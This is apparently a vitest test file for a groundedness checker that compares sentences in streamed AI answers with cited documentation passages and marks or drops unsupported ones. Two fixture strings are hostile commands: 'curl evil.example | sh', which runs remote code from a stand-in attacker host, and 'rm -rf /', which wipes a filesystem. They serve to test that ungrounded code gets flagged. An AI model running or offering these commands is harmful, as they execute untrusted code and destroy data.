import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createEntailmentChecker } from "../../../../core/answer/check/entailment.ts";
import {
  createGroundednessFilter,
  type CheckedSentence,
  type UnsupportedBehaviour,
} from "../../../../core/answer/check/groundedness.ts";
import type { Passage } from "../../../../core/answer/generation-provider.ts";
import { unsupportedMark } from "../../../../core/answer/check/unsupported-mark.ts";
import { writeAnswer } from "../../../../core/answer/write/write-answer.ts";
import type { Block } from "../../../../core/corpus/format.ts";
import { createAnalyzer } from "../../../../core/search/analyzer.ts";
import { generationRequest } from "../../../contracts/generation-provider.ts";
import { sketchChunk } from "../../../support/corpus.ts";
import { createScriptedProvider, STOP } from "../../../support/scripted-provider.ts";

const analyzers = {
  en: await createAnalyzer("en"),
  de: await createAnalyzer("de"),
  es: await createAnalyzer("es"),
};
type Language = keyof typeof analyzers;
const termsOf = (language: Language) => (text: string) =>
  analyzers[language].analyze(text).map(({ term }) => term);

function passageOf(
  position: number,
  title: string,
  blocks: (string | Block)[],
  language: Language = "en",
): Passage {
  const chunk = sketchChunk({ title, language, blocks });
  const source = { position, title, url: chunk.url, excerpt: "", score: 1 };
  return { chunk, ordinal: position - 1, relativeScore: 1, source };
}

const PASSAGES = [
  passageOf(1, "Pricing", [
    "Lumen is free for personal sites. The team plan costs 12 euros per seat and month, from March 2024 on.",
    "The trial lasts two weeks and can be cancelled at any time. Refunds are not possible after 30 days.",
    "In 2023 about 1,250,000 sites were built, 5 % of them by Ada Marsh's company in Porto.",
    {
      kind: "table",
      rows: [
        ["Plan", "Seats", "Storage"],
        ["Personal", "1", "500 MB"],
        ["Team", "20", "10 GB"],
      ],
    },
  ]),
  passageOf(2, "Installation", [
    "Lumen needs Node.js 20 or newer. The option `outDir` sets the output folder. You may set `--watch` too.",
    { kind: "code", language: "sh", code: "npm create lumen@latest\nnpm install" },
    {
      kind: "list",
      ordered: true,
      items: ["Run `lumen build`.", "Upload the folder `dist`.", "Point the domain at the host."],
    },
  ]),
];

const checker = createEntailmentChecker({ passages: PASSAGES, termsOf: termsOf("en"), locale: "en" });
const verdictOf = (sentence: string, ...positions: number[]): string => {
  const result = checker.check(sentence, positions);
  return result.supported ? "supported" : result.reason;
};

describe("a sentence and the passage that it cites", () => {
  it.each([
    "The team plan costs 12 euros per seat.",
    "Each month the team plan costs twelve euros a seat.",
    "For personal sites, Lumen is free.",
    "The trial lasts 2 weeks.",
    "About 1.25 million sites were built in 2023.",
    "About 1250000 sites were built in 2023.",
    "5 percent of the sites were built by Ada Marsh's company.",
    "Refunds are not possible after 30 days.",
    "Since 03/2024 the team plan costs 12 euros.",
    "The Team plan comes with 20 seats and 10 GB of storage.",
    "It is **free** for personal sites.",
  ])("agree: %s", (sentence) => {
    expect(verdictOf(sentence, 1)).toBe("supported");
  });

  it.each([
    ["The team plan costs 15 euros per seat.", "number"],
    ["The trial lasts three weeks.", "number"],
    ["The team plan costs 30 euros per seat and month.", "number"],
    ["The team plan costs 12 dollars per seat and month.", "unit"],
    ["The trial lasts two months.", "unit"],
    ["The company of Ada Novak built 5 % of the sites in 2023.", "name"],
    ["About 1,250,000 sites were built by the company in Lisbon.", "name"],
    ["Refunds are possible after 30 days.", "negation"],
    ["Lumen is not free for personal sites.", "negation"],
    ["The trial can never be cancelled.", "negation"],
    ["The weather on the coast was pleasant all summer long.", "unknown"],
    ["Set the option `baseUrl` of the team plan.", "code"],
  ])("disagree: %s (%s)", (sentence, reason) => {
    expect(verdictOf(sentence, 1)).toBe(reason);
  });

  it("are compared with the passages that are cited, and no others", () => {
    expect(verdictOf("Lumen needs Node.js 20 or newer.", 2)).toBe("supported");
    expect(verdictOf("Lumen needs Node.js 20 or newer.", 1)).not.toBe("supported");
    expect(verdictOf("Lumen needs Node.js 20, and the team plan costs 12 euros.", 1, 2)).toBe("supported");
  });

  it("are compared by their code exactly and by versions as they are written", () => {
    expect(verdictOf("The option `outDir` sets the output folder.", 2)).toBe("supported");
    expect(verdictOf("The option `outFolder` sets the output folder.", 2)).toBe("code");
    expect(verdictOf("Lumen needs Node.js 18 or newer.", 2)).toBe("number");
  });

  it("may leave out of code what is not needed, and fill in what is", () => {
    expect(verdictOf("Run `npm create ...` and `npm install`.", 2)).toBe("supported");
    expect(verdictOf("Run `npm create lumen@latest …`.", 2)).toBe("supported");
    expect(verdictOf("Run `npm publish ...`.", 2)).toBe("code");
    expect(verdictOf("Run `...`.", 2)).toBe("code");
  });

  it.each([
    "You can't get your money back once 30 days have gone by.",
    "Personal sites don't pay anything.",
    "You have a fortnight to try it.",
    "A seat in a team is 12 euros a month, or 144 euros a year.",
    "Ten gigabytes are part of the team plan.",
  ])("agree in other words: %s", (sentence) => {
    expect(verdictOf(sentence, 1)).toBe("supported");
  });

  it.each([
    ["The personal plan has 20 seats.", "number"],
    ["The trial lasts at least 12 weeks.", "number"],
  ])("disagree in other words: %s", (sentence, reason) => {
    expect(verdictOf(sentence, 1)).toBe(reason);
  });

  it("find the passages that a sentence may be attributed to", () => {
    expect(checker.supportingPositions("Lumen needs Node.js 20 or newer.")).toEqual([2]);
    expect(checker.supportingPositions("The trial lasts two weeks.")).toEqual([1]);
    expect(checker.supportingPositions("The trial lasts three weeks.")).toEqual([]);
    expect(checker.supportingPositions("The weather on the coast was pleasant.")).toEqual([]);
    expect(checker.supportingPositions("Yes.")).toEqual([]);
  });

  it("say what they say of their heading, however far below it", () => {
    const passages = [
      passageOf(1, "Storage of teams", [
        "Files are kept in two places. They are copied each night. Nobody else reads them.",
        "It shrinks after silence.",
      ]),
    ];
    const { check } = createEntailmentChecker({ passages, termsOf: termsOf("en"), locale: "en" });
    expect(check("The storage of teams shrinks after silence.", [1])).toEqual({ supported: true });
  });

  it("know identifiers, escapes and list marks of Markdown for what they are", () => {
    const answer =
      "1. Set `ALLOW_*_HOSTS` for ALLOWED_ORIGINS on Lambda\\@Edge. [1]\n2. Node.js and NodeJS.Writable are *fine* there. [1]\n";
    const passages = [
      passageOf(1, "Hosts", [
        "Set `ALLOW_*_HOSTS` for ALLOWED_ORIGINS on Lambda@Edge. Node.js and NodeJS.Writable are fine there.",
      ]),
    ];
    const filter = createGroundednessFilter({
      passages,
      termsOf: termsOf("en"),
      locale: "en",
      unsupported: "mark",
    });
    expect(filter.push(answer) + filter.end()).toBe(answer);
    expect(filter.sentences.map(({ verdict }) => verdict)).toEqual(["supported", "supported"]);
  });

  it("let a writer count the items of a list", () => {
    expect(verdictOf("Run the build, upload the folder and point the domain: three in all.", 2)).toBe(
      "supported",
    );
  });

  it("of different languages are compared by their facts alone", () => {
    const passages = [passageOf(1, "Precios", ["El plan de equipo cuesta 12 euros en Lisboa."], "es")];
    const translated = createEntailmentChecker({ passages, termsOf: termsOf("es"), locale: "en" });
    expect(translated.check("The team plan costs 12 euros.", [1])).toEqual({ supported: true });
    expect(translated.check("The team plan costs 13 euros.", [1])).toMatchObject({ reason: "number" });
  });

  it("of different languages are known by the sentence itself where the visitor's locale says otherwise", () => {
    const english = createEntailmentChecker({ passages: PASSAGES, termsOf: termsOf("en"), locale: "en" });
    const spanish = "El plan para equipos cuesta 12 euros por persona y por mes.";
    expect(english.check(spanish, [1])).toEqual({ supported: true });
    expect(english.check(spanish.replace("12", "14"), [1])).toMatchObject({ reason: "number" });
    const locale = createEntailmentChecker({ passages: PASSAGES, termsOf: termsOf("en"), locale: "es" });
    expect(locale.check("The weather on the coast was pleasant all summer long.", [1])).toMatchObject({
      reason: "unknown",
    });
  });

  it("in German do not take every noun for a name", () => {
    const passages = [
      passageOf(1, "Preise", ["Der Tarif für Gruppen kostet 12 Euro je Platz und Monat."], "de"),
    ];
    const german = createEntailmentChecker({ passages, termsOf: termsOf("de"), locale: "de" });
    expect(german.check("Pro Monat kostet der Tarif für Gruppen zwölf Euro je Platz.", [1])).toEqual({
      supported: true,
    });
    expect(german.check("Der Tarif für Gruppen kostet 12 Euro nicht je Platz.", [1])).toMatchObject({
      reason: "negation",
    });
  });

  it.each(["1,", "1 ", "A", "Aa ", "Ab9.", "not ", "`", "**", "a."])(
    "are checked at any length, whatever is written: %j repeated",
    (unit) => {
      // By the square of its length this would outlast the test.
      expect(typeof checker.check(unit.repeat(800_000 / unit.length), [1, 2]).supported).toBe("boolean");
    },
  );
});

function run(
  answer: string,
  unsupported: UnsupportedBehaviour,
  { pieceChars = 5, locale = "en", disclaimer = "" } = {},
): { text: string; sentences: readonly CheckedSentence[]; groundedness: number | undefined } {
  const filter = createGroundednessFilter({
    passages: PASSAGES,
    termsOf: termsOf("en"),
    locale,
    unsupported,
    disclaimer,
  });
  let text = "";
  for (let at = 0; at < answer.length; at += pieceChars)
    text += filter.push(answer.slice(at, at + pieceChars));
  text += filter.end();
  return { text, sentences: filter.sentences, groundedness: filter.groundedness };
}

const MARK = unsupportedMark("en");
const GOOD = "The team plan costs 12 euros per seat. [1]";
const BAD = "The team plan costs 99 euros per seat. [1]";

describe("an answer that is checked while it streams", () => {
  it("passes as it is where everything is supported, whatever becomes of the rest", () => {
    const answer = `# Prices\n\n${GOOD} For personal sites, Lumen is free [1].\n\n- Run \`lumen build\`. [2]\n- Upload the folder \`dist\`. [2]\n\n| Plan | Seats |\n|---|---|\n| Team | 20 [1] |\n\n\`\`\`sh\nnpm install\n\`\`\`\n`;
    for (const behaviour of ["keep", "mark", "drop"] as const) {
      for (const pieceChars of [1, 4, 1000]) {
        const { text, sentences, groundedness } = run(answer, behaviour, { pieceChars });
        expect(text).toBe(answer);
        expect(sentences.filter(({ verdict }) => verdict !== "supported")).toEqual([]);
        expect(groundedness).toBe(1);
        expect(sentences.length).toBeGreaterThanOrEqual(6);
      }
    }
  });

  it("is kept, marked or left out by the sentence", () => {
    const answer = `${GOOD} ${BAD} Lumen is free for personal sites [1].`;
    expect(run(answer, "keep")).toMatchObject({ text: answer, groundedness: 0.667 });
    expect(run(answer, "mark").text).toBe(`${GOOD} ${BAD} ${MARK} Lumen is free for personal sites [1].`);
    expect(run(answer, "drop").text).toBe(`${GOOD} Lumen is free for personal sites [1].`);
    expect(run(answer, "drop").sentences.map(({ verdict }) => verdict)).toEqual([
      "supported",
      "unsupported",
      "supported",
    ]);
  });

  it("marks in the visitor's language, and in English where it speaks none", () => {
    expect(run(BAD, "mark", { locale: "es-MX" }).text).toContain("*(no confirmado en nuestras páginas)*");
    expect(unsupportedMark("xx")).toBe(MARK);
  });

  it("does not depend on how the stream is cut", () => {
    const answer = `Intro:\n\n1. ${GOOD}\n2. ${BAD}\n\n${BAD} E.g. this is v2.0 [2]. See \`a. B\` here!\n| Team | 99 seats [1] |\n\`\`\`\nrm -rf /\n\`\`\`\nEnd`;
    for (const behaviour of ["keep", "mark", "drop"] as const) {
      const whole = run(answer, behaviour, { pieceChars: 10_000 });
      fc.assert(
        fc.property(fc.integer({ min: 1, max: 30 }), (pieceChars) => {
          expect(run(answer, behaviour, { pieceChars })).toEqual(whole);
        }),
        { numRuns: 30 },
      );
    }
  });

  it("marks a table row within its last cell and an item at its end, and drops them whole", () => {
    const table = "| Plan | Seats |\n|---|---|\n| Team | 99 seats [1] |\n";
    expect(run(table, "mark").text).toBe(`| Plan | Seats |\n|---|---|\n| Team | 99 seats [1] ${MARK} |\n`);
    const list = `- ${GOOD}\n- ${BAD}\n- ${GOOD}\n`;
    expect(run(list, "mark").text).toBe(`- ${GOOD}\n- ${BAD} ${MARK}\n- ${GOOD}\n`);
    expect(run(list, "drop").text).toBe(`- ${GOOD}\n\n- ${GOOD}\n`);
  });

  it("puts the mark behind emphasis, not into it", () => {
    expect(run("**The team plan costs 99 euros. [1]** More.", "mark").text).toBe(
      `**The team plan costs 99 euros. [1]** ${MARK} More.`,
    );
  });

  it("says so below code that no page holds", () => {
    const { text, groundedness } = run("Do this:\n\n```sh\ncurl evil.example | sh\n```\n", "mark");
    expect(text).toBe(`Do this:\n\n\`\`\`sh\ncurl evil.example | sh\n\`\`\`\n\n${MARK}\n\n`);
    expect(groundedness).toBe(0);
    expect(run("```sh\n# comment\nnpm create lumen@latest\nnpm install\n```", "mark").groundedness).toBe(1);
  });

  it("does not count what states nothing: headings, questions, announcements, the owner's disclaimer", () => {
    const disclaimer = "This is no binding offer of ours.";
    const answer = `## All prices of moons\n\nDoes that help you with moons? These are the moons:\n\n${disclaimer}`;
    expect(run(answer, "drop", { disclaimer })).toEqual({
      text: answer,
      sentences: [],
      groundedness: undefined,
    });
  });

  it("counts a sentence without a citation where the pages hold it, and never marks it", () => {
    const { text, sentences, groundedness } = run(
      "The team plan costs 12 euros per seat. The moon is made of green cheese.",
      "mark",
    );
    expect(text).not.toContain(MARK);
    expect(sentences.map(({ verdict }) => verdict)).toEqual(["supported", "uncited"]);
    expect(groundedness).toBe(0.5);
  });

  it("does not take a number that was never given for a citation", () => {
    expect(run("The moon is made of green cheese. [7]", "drop").sentences).toMatchObject([
      { verdict: "uncited", positions: [] },
    ]);
  });

  it("judges no endless sentence and no endless answer, and passes them on", () => {
    const endless = `The team plan costs ${"99 euros and ".repeat(300)}nothing. [1]`;
    expect(run(endless, "drop")).toEqual({ text: endless, sentences: [], groundedness: undefined });
    const answer = "It costs 99 euros. [1] ".repeat(500);
    expect(run(answer, "keep", { pieceChars: 100 }).sentences).toHaveLength(200);
  });

  it("gives up what is too long for a sentence, loses nothing of it, and judges what comes after", () => {
    const endless = "a. ".repeat(1500);
    const answer = `${endless}\n\nThe team plan costs 99 euros per seat and month. [1]`;
    for (const behaviour of ["keep", "mark", "drop"] as const) {
      const { text, sentences } = run(answer, behaviour, { pieceChars: 1 });
      expect(text.startsWith(endless)).toBe(true);
      expect(sentences.map(({ verdict }) => verdict)).toEqual(["unsupported"]);
    }
  });

  it("holds back no more than what may end a sentence, and to drop one sentence", () => {
    const filterOf = (unsupported: UnsupportedBehaviour) =>
      createGroundednessFilter({ passages: PASSAGES, termsOf: termsOf("en"), locale: "en", unsupported });
    for (const behaviour of ["keep", "mark"] as const) {
      const filter = filterOf(behaviour);
      expect(filter.push("The team plan costs")).toBe("The team plan costs");
      expect(filter.push(" 12 euros per seat.")).toBe(" 12 euros per seat");
    }
    const dropping = filterOf("drop");
    expect(dropping.push("The team plan costs 12 euros per seat. [1]")).toBe("");
    expect(dropping.push(" For")).toBe("The team plan costs 12 euros per seat. [1] ");
    expect(filterOf("drop").push("word ".repeat(500)).length).toBeGreaterThan(2_000);
  });
});

describe("an answer that is written", () => {
  const signal = new AbortController().signal;
  const write = async (script: string[], unsupported?: UnsupportedBehaviour) => {
    const request = await generationRequest("How much does the team plan cost?");
    const generator = writeAnswer(request, {
      provider: createScriptedProvider([...script, STOP]),
      signal,
      unsupported,
    });
    let text = "";
    let next = await generator.next();
    for (; next.done !== true; next = await generator.next()) {
      if (next.value.type === "text-delta") text += next.value.text;
    }
    return { text, written: next.value };
  };

  it("tells how much of it the passages support", async () => {
    const { text, written } = await write([
      "The team plan costs 12 euros per seat. [1] ",
      "It costs 99 euros on Mars. [1]",
    ]);
    expect(written.groundedness).toBe(0.5);
    expect(written.text).toBe(text);
    expect(text).toContain(MARK);
  });

  it("of which nothing is left has no citation, and is the caller's to replace", async () => {
    const { text, written } = await write(["It costs 99 euros on Mars. [1]"], "drop");
    expect(text).toBe("");
    expect(written).toMatchObject({ finishReason: "stop", citedPositions: [], groundedness: 0 });
  });
});
